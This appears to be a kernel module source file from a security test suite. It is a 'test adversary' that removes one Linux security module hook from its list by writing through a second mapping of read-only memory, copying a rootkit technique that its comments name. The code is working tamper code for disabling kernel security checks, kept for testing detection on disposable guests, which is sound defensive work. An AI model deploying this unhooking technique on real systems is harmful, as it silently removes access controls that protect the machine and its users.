// SPDX-License-Identifier: GPL-2.0
/*
 * A test adversary: takes one function of a Linux security module off its hook.
 * For throw-away guests only; see README.md.
 *
 * Technique: exploits and rootkits switch off what would forbid them things: SELinux's enforcing
 * flag, or the hook itself (Singularity).  The heads of the lists are read-only after boot, and
 * are written through a second mapping.
 */
#include <linux/errno.h>
#include <linux/list.h>

static int switch_on(void);
static void switch_off(void);

#include "adversary.h"

static unsigned long head;
module_param(head, ulong, 0444);
MODULE_PARM_DESC(head, "address of the hook's list in security_hook_heads");

static struct hlist_node *removed;

static int switch_on(void)
{
	struct hlist_node *next;
	int error;

	if (!head)
		return -EINVAL;
	removed = ((struct hlist_head *)head)->first;
	if (!removed)
		return -ENOENT;
	next = removed->next;
	error = write_through_alias(head, &next, sizeof(next));
	if (!error && next)
		write_through_alias((unsigned long)&next->pprev, &head, sizeof(head));
	return error;
}

static void switch_off(void)
{
	struct hlist_node **link = &removed->next;

	if (removed->next)
		write_through_alias((unsigned long)&removed->next->pprev, &link, sizeof(link));
	write_through_alias(head, &removed, sizeof(removed));
}

ADVERSARY("a security module loses a hook");
